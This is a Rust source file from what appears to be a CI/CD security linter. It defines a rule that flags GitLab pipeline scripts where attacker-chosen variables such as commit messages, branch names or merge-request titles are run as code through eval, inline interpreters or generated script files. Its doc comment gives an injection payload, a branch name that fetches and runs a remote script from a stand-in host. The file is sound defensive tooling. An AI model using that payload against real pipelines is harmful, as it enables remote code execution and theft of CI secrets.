use shipgate_model::{Confidence, Severity};

use crate::audit::{AuditMeta, audit_meta};
use crate::gitlab::pipeline::{Job, Pipeline};
use crate::gitlab::script::script_lines;
use crate::gitlab::{AuditContext, Findings, GitlabAudit};
use crate::shell::{Command, Quote, Word, basename};

audit_meta! {
    /// Finds predefined variables whose value an outsider chooses (commit
    /// messages, titles and authors, branch and tag names, merge-request
    /// titles, descriptions and source branches) where the shell runs their
    /// value as code: as the command itself, in `eval`, in `sh -c` /
    /// `bash -c` / `python -c`-style inline code, or written into a script
    /// file (`echo "...$CI_COMMIT_MESSAGE..." > build.sh`).
    ///
    /// GitLab passes variables to the job as environment variables and the
    /// shell expands them at run time, so `echo "$CI_COMMIT_MESSAGE"` only
    /// prints data, unlike GitHub's `${{ }}`, which pastes text into the
    /// script before it runs. Only a second round of parsing turns the
    /// value into code, and that is what this rule looks for.
    /// `CI_COMMIT_REF_SLUG` is sanitized by GitLab and is not reported.
    ///
    /// ## Why it matters
    /// Branch names may contain `$(...)`, `;` and backticks; commit messages
    /// and merge-request titles may contain anything. A branch named
    /// `x$(curl${IFS}evil.sh|sh)` pushed to a merge request runs that
    /// command inside your job, with its variables and token.
    ///
    /// ## Example
    /// ```yaml
    /// notify:
    ///   script:
    ///     - eval "notify --title '$CI_MERGE_REQUEST_TITLE'"   # flagged
    ///     - notify --title "$CI_MERGE_REQUEST_TITLE"          # fine
    /// ```
    ///
    /// ## Fix
    /// Pass the variable as a quoted argument (`"$CI_COMMIT_MESSAGE"`), or
    /// to inline code as an environment variable that the code reads
    /// (`python -c 'import os; print(os.environ["CI_COMMIT_TITLE"])'`).
    pub(crate) static SCRIPT_INJECTION = {
        id: "gitlab/script-injection",
        title: "Attacker-controlled variable is run as code",
        severity: High,
        confidence: High,
        persona: Default,
        controls: ["CICD-SEC-4", "SSDF-PW.7", "checklist-3"],
    };
}

/// Predefined variables an outsider (a fork's author, anyone who can push a
/// branch or open a merge request) controls.
const TAINTED: &[&str] = &[
    "CI_COMMIT_MESSAGE",
    "CI_COMMIT_TITLE",
    "CI_COMMIT_DESCRIPTION",
    "CI_COMMIT_AUTHOR",
    "CI_COMMIT_BRANCH",
    "CI_COMMIT_REF_NAME",
    "CI_COMMIT_TAG",
    "CI_COMMIT_TAG_MESSAGE",
    "CI_MERGE_REQUEST_TITLE",
    "CI_MERGE_REQUEST_DESCRIPTION",
    "CI_MERGE_REQUEST_SOURCE_BRANCH_NAME",
    "CI_EXTERNAL_PULL_REQUEST_SOURCE_BRANCH_NAME",
];

/// Interpreters whose option runs its argument as inline code.
const INLINE_CODE: &[(&str, &[&str])] = &[
    ("sh", &["-c"]),
    ("bash", &["-c"]),
    ("zsh", &["-c"]),
    ("dash", &["-c"]),
    ("ksh", &["-c"]),
    ("python", &["-c"]),
    ("python3", &["-c"]),
    ("node", &["-e", "--eval", "-p"]),
    ("perl", &["-e", "-E"]),
    ("ruby", &["-e"]),
    ("pwsh", &["-c", "-Command"]),
    ("powershell", &["-c", "-Command"]),
];

/// Script files a job might write and then run.
const SCRIPT_SUFFIXES: &[&str] = &[".sh", ".bash", ".zsh", ".py", ".rb", ".pl", ".ps1", ".js"];

fn tainted(word: &Word) -> Option<&str> {
    word.variables
        .iter()
        .find(|v| TAINTED.contains(&v.as_str()))
        .map(String::as_str)
}

pub(crate) struct ScriptInjection;

impl GitlabAudit for ScriptInjection {
    fn meta(&self) -> &'static AuditMeta {
        &SCRIPT_INJECTION
    }

    fn job(
        &self,
        _cx: &AuditContext<'_>,
        _pipeline: &Pipeline<'_>,
        job: &Job<'_>,
        out: &mut Findings,
    ) {
        for line in script_lines(job) {
            for (_, _, command) in line.commands() {
                let Some((word, variable, how, confidence)) = injection(command) else {
                    continue;
                };
                let span = line.line.value_span(word.range.clone());
                out.report(
                    &SCRIPT_INJECTION,
                    line.line,
                    span,
                    format!("`${variable}` is chosen by whoever pushes the commit or opens the merge request, and {how}"),
                )
                .confidence(confidence)
                .severity(Severity::High);
            }
        }
    }
}

/// The word where a tainted value becomes code, the variable, how, and
/// how sure that is.
fn injection(command: &Command) -> Option<(&Word, &str, &'static str, Confidence)> {
    let index = command.program_index()?;
    let program_word = command.words.get(index)?;
    // Only a word that starts with the expansion makes the value the
    // command name; `f("$X")` is a (PowerShell) call, not an expansion.
    if program_word.text.starts_with('$')
        && let Some(variable) = program_word.variables.first()
        && TAINTED.contains(&variable.as_str())
    {
        return Some((
            program_word,
            variable,
            "its value is run as the command",
            Confidence::High,
        ));
    }
    let program = basename(&program_word.text);
    let arguments = command.arguments();
    if program == "eval" {
        return arguments.iter().find_map(|word| {
            tainted(word).map(|v| (word, v, "`eval` runs it as shell code", Confidence::High))
        });
    }
    if let Some((_, options)) = INLINE_CODE.iter().find(|(name, _)| {
        *name == program || (program.starts_with("python3.") && *name == "python3")
    }) {
        let code_at = arguments
            .iter()
            .position(|w| options.contains(&w.text.as_str()))?;
        let code = arguments.get(code_at + 1)?;
        if code.quote == Quote::Single {
            return None;
        }
        return tainted(code).map(|v| (code, v, "it is pasted into inline code", Confidence::High));
    }
    if matches!(program, "echo" | "printf") {
        let script_file = command.redirects.iter().any(|r| {
            r.writes_stdout_to_file()
                && SCRIPT_SUFFIXES
                    .iter()
                    .any(|suffix| r.target.text.ends_with(suffix))
        });
        if script_file {
            return arguments.iter().find_map(|word| {
                tainted(word).map(|v| {
                    (
                        word,
                        v,
                        "it is written into a script file",
                        Confidence::Medium,
                    )
                })
            });
        }
    }
    None
}
